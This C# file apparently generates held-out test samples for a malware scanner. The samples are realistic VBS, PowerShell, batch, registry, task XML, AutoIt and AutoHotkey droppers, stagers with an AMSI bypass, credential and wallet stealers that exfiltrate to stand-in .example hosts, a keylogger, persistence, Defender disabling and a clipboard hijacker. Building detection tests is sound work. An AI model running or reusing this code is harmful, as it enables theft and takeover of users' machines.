namespace ScanHost.TestKit.HeldOut.Fourth;

/// <summary>Visual Basic scripts that fetch, decode or stay.</summary>
public sealed class BasicScriptDropper : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Comprobante_SPEI.vbs", Dos("""
On Error Resume Next
Set objXMLHTTP = CreateObject("MSXML2.XMLHTTP")
Set objShell = CreateObject("WScript.Shell")
strFile = objShell.ExpandEnvironmentStrings("%TEMP%") & "\" & "comprobante.exe"
objXMLHTTP.open "GET", "https://spei.banca-pagos.example/c.exe", False
objXMLHTTP.send
If objXMLHTTP.Status = 200 Then
  Set objADOStream = CreateObject("ADODB.Stream")
  objADOStream.Open
  objADOStream.Type = 1
  objADOStream.Write objXMLHTTP.ResponseBody
  objADOStream.SaveToFile strFile, 2
  objShell.Run strFile, 0, False
End If
"""));
        yield return ("INV-1120-2026_pdf.vbs", Dos($"""
'{Filler.Prose(40, 700).Replace("\n", "\n'", StringComparison.Ordinal)}
Private Const Overvaerelsers = "udg"
Function Skinbarlig(Byref Tvangs, Hjemgiv)
  For Kalkun = 4 To Len(Tvangs) Step 5
    Hjemgiv = Hjemgiv & Mid(Tvangs, Kalkun, 1)
  Next
End Function
Rem Brainer kontorist
Skinbarlig "{string.Concat("powershell".Select((letter, at) => $"Fal{letter}{"xyzk"[at % 4]}"))}", Prog
Skinbarlig "{string.Concat("$Unde=(New-Object Net.WebClient).DownloadString('https://drive.cloud-dl.example/uc?export=download&id=1sVx');IEX($Unde)".Select((letter, at) => $"Gru{letter}{"abce"[at % 4]}"))}", Arg
Set Vestibul = CreateObject("Shell.Application")
Call Vestibul.ShellExecute(Prog, Chr(34) & Arg & Chr(34), "", "", 0)
"""));
        yield return ("backup_photos.vbs", Dos("""
Dim fso, d, ws
Set fso = CreateObject("Scripting.FileSystemObject")
Set ws = CreateObject("WScript.Shell")
For Each d In fso.Drives
  If d.DriveType = 1 And d.IsReady Then
    fso.CopyFile WScript.ScriptFullName, d.Path & "\" & WScript.ScriptName, True
    fso.GetFile(d.Path & "\" & WScript.ScriptName).Attributes = 2 + 4
    For Each f In fso.GetFolder(d.Path & "\").Files
      If InStr(f.Name, ".lnk") = 0 Then
        f.Attributes = 2 + 4
        Set l = ws.CreateShortcut(d.Path & "\" & f.Name & ".lnk")
        l.TargetPath = "cmd.exe"
        l.Arguments = "/c start " & WScript.ScriptName & "&start " & f.Name & "&exit"
        l.Save
      End If
    Next
  End If
Next
ws.RegWrite "HKCU\software\microsoft\windows\currentversion\run\photos", "wscript.exe //B " & Chr(34) & WScript.ScriptFullName & Chr(34), "REG_SZ"
Do
  Set h = CreateObject("Microsoft.XMLHTTP") : h.open "POST", "http://hworm.dyn-host.example:7777/is-ready", False
  h.setRequestHeader "User-Agent:", "nan-av" : h.send "" : Execute h.responseText : WScript.Sleep 5000
Loop
"""));
        yield return ("doc_7741.vbs", Utf16($"""
Execute(Eval("Chr({string.Join(")&Chr(", "CreateObject(\"WScript.Shell\").Run \"cmd /c start /min curl -k https://up.sync-drive.example/p.ps1 | powershell -\",0".Select(letter => $"{letter + 900}-900"))})"))
"""));
    }
}

/// <summary>PowerShell that loads the next stage.</summary>
public sealed class ShellStager : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("run.ps1", Dos($"powershell.exe -NonI -W Hidden -NoP -Exec Bypass -Enc {Encoded("[System.Net.ServicePointManager]::ServerCertificateValidationCallback={$true};IEX (New-Object System.Net.WebClient).DownloadString('https://updates.win-telemetry.example/stage2.ps1')")}\n"));
        yield return ("loader.ps1", Dos("""
# disable scan interface
$w = [Ref].Assembly.GetType('System.Management.Automation.'+$([char]65+'msiUt'+'ils'))
$f = $w.GetField($('am'+'siIni'+'tFailed'),'NonPublic,Static'); $f.SetValue($null,$true)
$code = @'
[DllImport("kernel32")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
[DllImport("kernel32")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr st, IntPtr p, uint c, IntPtr i);
[DllImport("kernel32")] public static extern UInt32 WaitForSingleObject(IntPtr h, UInt32 m);
'@
$k = Add-Type -memberDefinition $code -Name "Win32" -namespace Win32Functions -passthru
[Byte[]] $buf = 0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00
$m = $k::VirtualAlloc(0,[Math]::Max($buf.Length,0x1000),0x3000,0x40)
[System.Runtime.InteropServices.Marshal]::Copy($buf,0,$m,$buf.Length)
$k::CreateThread(0,0,$m,0,0,0)
"""));
        yield return ("svc_update.ps1", Dos($$"""
${_/=\_} = '{{Backwards(Base64("Start-Process calc"))}}'
$q0 = -join ('{{Codes("https://pastes.devsnips.example/raw/Yt7Qa", 0, "-")}}'.Split('-') | % { [char][int]$_ })
$ms = New-Object IO.MemoryStream(,[Convert]::FromBase64String('{{Convert.ToBase64String(InertFiles.Gzip(Utf8("Write-Output 'stage two'")))}}'))
$s = (New-Object IO.StreamReader(New-Object IO.Compression.GZipStream($ms,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
&( $pshome[4]+$pshome[30]+'x') $s
.("{1}{0}" -f 'X','IE') ((New-Object ("{2}{0}{1}" -f 't.Web','Client','Ne')).("{1}{0}{2}" -f 'loadStr','Down','ing').Invoke($q0))
"""));
        yield return ("Install-Printer.ps1", Utf8($$"""
<#
.SYNOPSIS  Installs the office printer.
.NOTES     {{Filler.Prose(2, 90)}}
#>
function Get-Data($url) { $c = New-Object -ComObject Msxml2.ServerXMLHTTP; $c.Open('GET', $url, $false); $c.Send(); return $c.responseText }
$bytes = (Get-Data 'https://printer-drivers.office-it.example/hp.txt') -split ',' | ForEach-Object { [byte]($_ -bxor 0x3C) }
$asm = [AppDomain]::CurrentDomain.Load($bytes)
$asm.EntryPoint.Invoke($null, @(, [string[]]@()))
$t = New-ScheduledTaskAction -Execute 'conhost.exe' -Argument "--headless powershell -ep bypass -f `"$PSCommandPath`""
Register-ScheduledTask -TaskName 'HP Printer Health' -Action $t -Trigger (New-ScheduledTaskTrigger -AtLogOn) -Force | Out-Null
Add-MpPreference -ExclusionPath $env:APPDATA -ErrorAction SilentlyContinue
"""));
    }
}

/// <summary>PowerShell that collects what is worth something.</summary>
public sealed class ShellStealer : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("grab.ps1", Dos("""
$d = "$env:TEMP\$env:USERNAME"; mkdir $d -Force | Out-Null
foreach ($p in @("$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data","$env:LOCALAPPDATA\Google\Chrome\User Data\Local State","$env:LOCALAPPDATA\Microsoft\Edge\User Data\Default\Login Data","$env:APPDATA\Exodus\exodus.wallet")) { Copy-Item $p $d -Recurse -EA 0 }
netsh wlan export profile key=clear folder=$d
(netsh wlan show profiles) | Select-String ":(.+)$" | % { netsh wlan show profile name="$($_.Matches.Groups[1].Value.Trim())" key=clear } | Out-File "$d\wifi.txt"
Compress-Archive "$d\*" "$d.zip" -Force
curl.exe -F "payload_json={\"username\":\"$env:COMPUTERNAME\"}" -F "file=@$d.zip" https://discord-hooks.example/api/webhooks/000000000000000000/AAAA-BBBB
Remove-Item $d,"$d.zip" -Recurse -Force
"""));
        yield return ("hr_check.ps1", Dos("""
Add-Type -AssemblyName System.Windows.Forms
Add-Type -AssemblyName System.Security
$api = 'https://api.telegram.org/bot0000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/sendDocument'
$ls = Get-Content "$env:LOCALAPPDATA\BraveSoftware\Brave-Browser\User Data\Local State" -Raw | ConvertFrom-Json
$enc = [Convert]::FromBase64String($ls.os_crypt.encrypted_key)[5..999]
$key = [Security.Cryptography.ProtectedData]::Unprotect($enc,$null,'CurrentUser')
$clip = [Windows.Forms.Clipboard]::GetText()
$b = New-Object Drawing.Bitmap 1920,1080; [Drawing.Graphics]::FromImage($b).CopyFromScreen(0,0,0,0,$b.Size); $b.Save("$env:TEMP\s.png")
Invoke-RestMethod $api -Method Post -Body @{chat_id='-1001';caption="$env:USERNAME $([BitConverter]::ToString($key)) $clip"}
"""));
        yield return ("keyservice.ps1", Dos("""
$sig='[DllImport("user32.dll")]public static extern short GetAsyncKeyState(int k);[DllImport("user32.dll")]public static extern int GetForegroundWindow();'
$api=Add-Type -MemberDefinition $sig -Name K -Namespace A -PassThru
$log="$env:APPDATA\Microsoft\dict.tmp"; $last=Get-Date
while($true){Start-Sleep -Milliseconds 30
 for($c=8;$c -le 254;$c++){ if($api::GetAsyncKeyState($c) -eq -32767){ [IO.File]::AppendAllText($log,[char]$c) } }
 if(((Get-Date)-$last).TotalMinutes -ge 10){ Send-MailMessage -From k@mail-drop.example -To box@mail-drop.example -Subject $env:COMPUTERNAME -Attachments $log -SmtpServer smtp.mail-drop.example -Port 587 -UseSsl; Clear-Content $log; $last=Get-Date } }
"""));
        yield return ("inventory_v2.ps1", Utf16($$"""
# Inventory helper - {{Filler.Prose(18, 60)}}
$f = Get-ChildItem $env:USERPROFILE -Recurse -Include *.kdbx,*.rdp,*.ovpn,id_rsa,*.pem,wallet.dat,seed*.txt -EA SilentlyContinue
$x = @{}; foreach ($i in $f) { $x[$i.FullName] = [Convert]::ToBase64String([IO.File]::ReadAllBytes($i.FullName)) }
$j = $x | ConvertTo-Json -Compress
$i = 0; [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($j)) -split '(.{60})' | ? {$_} | % { Resolve-DnsName "$i.$($_ -replace '=','').x.ns-exfil.example" -Type TXT -EA 0 | Out-Null; $i++ }
Clear-EventLog -LogName 'Windows PowerShell'; Remove-Item (Get-PSReadlineOption).HistorySavePath
"""));
    }
}

/// <summary>Batch files.</summary>
public sealed class BatchDropper : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Start_Me.bat", Dos("""
@echo off
if not "%1"=="am_admin" (powershell -Command "Start-Process -Verb RunAs -FilePath '%0' -ArgumentList 'am_admin'" & exit /b)
powershell -Command "Add-MpPreference -ExclusionPath 'C:\'"
powershell -Command "Set-MpPreference -DisableRealtimeMonitoring $true"
certutil -urlcache -split -f https://free-cheats.game-boost.example/client.exe C:\ProgramData\client.exe >nul
schtasks /create /tn "OneDrive Reporting" /tr C:\ProgramData\client.exe /sc onlogon /rl highest /f
start "" C:\ProgramData\client.exe
(goto) 2>nul & del "%~f0"
"""));
        var alphabet = "set \"Kx=zyxwvutsrqponmlkjihgfedcbaZYXWVUTSRQPONMLKJIHGFEDCBA9876543210-/:.' \"";
        yield return ("Angebot.cmd", Dos($"""
@echo off
{alphabet}
{string.Concat("powershell -w hidden -c iwr https://angebot.handwerk-docs.example/a.ps1 -useb".Select(letter => alphabet.IndexOf(letter, 8) is var at and > 0 ? $"%Kx:~{at - 8},1%" : $"{letter}"))}
exit
"""));
        yield return ("CV_Marketing_Manager.bat", Dos($"""
@echo off
:: {Filler.Prose(33, 300).Replace("\n", "\n:: ", StringComparison.Ordinal)}
start "" "https://www.linkedin.com/jobs/"
set "_1=cu" & set "_2=rl" & set "_3=ht" & set "_4=tps:/" & set "_5=/cv.talent-board.example"
%_1%%_2% -s -L -o "%PUBLIC%\Document.zip" %_3%%_4%%_5%/Document.zip
powershell -NoLogo -NonInteractive -C "Expand-Archive '%PUBLIC%\Document.zip' '%PUBLIC%\Document' -Force"
start /min "" "%PUBLIC%\Document\python.exe" -c "import base64;exec(base64.b64decode('{Base64("print('inert')")}'))"
echo start "" "%PUBLIC%\Document\python.exe" "%PUBLIC%\Document\w.py" > "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\WinSecure.bat"
"""));
        yield return ("payload_embedded.bat", Dos($"""
@echo off
setlocal
set "s=%~f0"
powershell -nop -ep bypass -w hidden -c "$l=(gc $env:s|?{"{"}$_ -like '::*'{"}"});$b=[Convert]::FromBase64String(($l -replace '^::','') -join '');$a=New-Object Security.Cryptography.AesManaged;$a.Key=[Convert]::FromBase64String('{Convert.ToBase64String(Filler.Noise(5, 32))}');$a.IV=New-Object byte[] 16;$p=$a.CreateDecryptor().TransformFinalBlock($b,0,$b.Length);[Reflection.Assembly]::Load($p).EntryPoint.Invoke($null,$null)"
exit /b
{string.Join('\n', Convert.ToBase64String(Filler.Noise(6, 6000)).Chunk(100).Select(line => "::" + new string(line)))}
"""));
    }
}

/// <summary>Exported settings that start something at each logon.</summary>
public sealed class SettingsThatStay : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("speedup_pc.reg", Utf16("""
Windows Registry Editor Version 5.00

[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]
"OneDriveSync"="mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -w hidden -c iex(irm https://sync.od-cache.example/b)\"\",0:close\")"

"""));
        yield return ("enable_macros.reg", Dos("""
REGEDIT4

[HKEY_CURRENT_USER\Software\Microsoft\Office\16.0\Excel\Security]
"VBAWarnings"=dword:00000001
"AccessVBOM"=dword:00000001

[HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender]
"DisableAntiSpyware"=dword:00000001

[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe]
"Debugger"="C:\\Windows\\System32\\cmd.exe"
"""));
        yield return ("OfficeTelemetry.xml", Utf16($"""
<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.4" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Author>Microsoft Corporation</Author><URI>\Microsoft\Office\Telemetry Agent</URI></RegistrationInfo>
  <Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger><TimeTrigger><Repetition><Interval>PT5M</Interval></Repetition><StartBoundary>2026-01-01T00:00:00</StartBoundary></TimeTrigger></Triggers>
  <Settings><Hidden>true</Hidden><DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries></Settings>
  <Actions Context="Author"><Exec><Command>powershell.exe</Command><Arguments>-nop -w hidden -enc {Encoded("IEX(New-Object Net.WebClient).DownloadString('https://tel.office-agent.example/t')")}</Arguments></Exec></Actions>
</Task>
"""));
        yield return ("GoogleUpdateTaskUser.xml", Dos("""
<?xml version="1.0"?>
<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task" version="1.2">
  <RegistrationInfo><Description>Keeps your Google software up to date.</Description></RegistrationInfo>
  <Principals><Principal id="A"><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
  <Triggers><BootTrigger/></Triggers>
  <Settings><Hidden>true</Hidden><ExecutionTimeLimit>PT0S</ExecutionTimeLimit></Settings>
  <Actions><Exec><Command>C:\Windows\System32\wscript.exe</Command><Arguments>//E:jscript //B C:\Users\Public\Libraries\thumbcache.db https://gupd.chrome-dl.example/q</Arguments></Exec></Actions>
</Task>
"""));
    }
}

/// <summary>AutoIt and AutoHotkey scripts.</summary>
public sealed class AutomationScript : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("script.au3", Dos($"""
#NoTrayIcon
#RequireAdmin
Local $b = "0x{Convert.ToHexString(InertFiles.Pe(600))}"
FileInstall("data.bin", @TempDir & "\data.bin", 1)
Local $h = DllCall("kernel32.dll", "ptr", "VirtualAlloc", "ptr", 0, "ulong_ptr", BinaryLen($b), "dword", 0x3000, "dword", 0x40)
Local $s = DllStructCreate("byte[" & BinaryLen($b) & "]", $h[0])
DllStructSetData($s, 1, Binary($b))
DllCall("user32.dll", "int", "CallWindowProcW", "ptr", $h[0], "int", 0, "int", 0, "int", 0, "int", 0)
RegWrite("HKCU\Software\Microsoft\Windows\CurrentVersion\Run", "AutoIt3", "REG_SZ", @AutoItExe & " " & @ScriptFullPath)
"""));
        yield return ("ClipHelper.ahk", Dos("""
#NoTrayIcon
#Persistent
OnClipboardChange("Swap")
Swap(t) {
  if RegExMatch(Clipboard, "^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
    Clipboard := "bc1qexampleexampleexampleexampleexample0000"
  else if RegExMatch(Clipboard, "^0x[a-fA-F0-9]{40}$")
    Clipboard := "0x0000000000000000000000000000000000000000"
}
FileCopy, %A_ScriptFullPath%, %A_Startup%\ClipHelper.ahk, 1
"""));
        yield return ("AutoHotkey.ahk", Dos("""
url := "https://ahk.sheet-sync.example/" . A_UserName
UrlDownloadToFile, %url%, %A_Temp%\m.ahk
Run, %A_AhkPath% "%A_Temp%\m.ahk",, Hide
Loop {
  Sleep 5000
  whr := ComObjCreate("WinHttp.WinHttpRequest.5.1")
  whr.Open("GET", url . "/cmd"), whr.Send()
  RunWait, % ComSpec . " /c " . whr.ResponseText . " > " . A_Temp . "\o.txt",, Hide
  FileRead, o, %A_Temp%\o.txt
  whr.Open("POST", url . "/out"), whr.Send(o)
}
"""));
        yield return ("Lizenzpruefung.au3", Dos($"""
Opt("TrayIconHide", 1)
Func _x($t)
  Local $r = "", $i
  For $i = 1 To StringLen($t) Step 2
    $r &= Chr(BitXOR(Dec(StringMid($t, $i, 2)), 66))
  Next
  Return $r
EndFunc
If ProcessExists("avastui.exe") Then Sleep(190000)
If @ComputerName = "tz" Or FileExists("C:\aaa_TouchMeNot_.txt") Then Exit
InetGet(_x("{Convert.ToHexString(Xored("https://lizenz.soft-activator.example/k.exe", 66))}"), @AppDataDir & "\k.exe", 1)
ShellExecute(@AppDataDir & "\k.exe", "", "", "open", @SW_HIDE)
"""));
    }
}
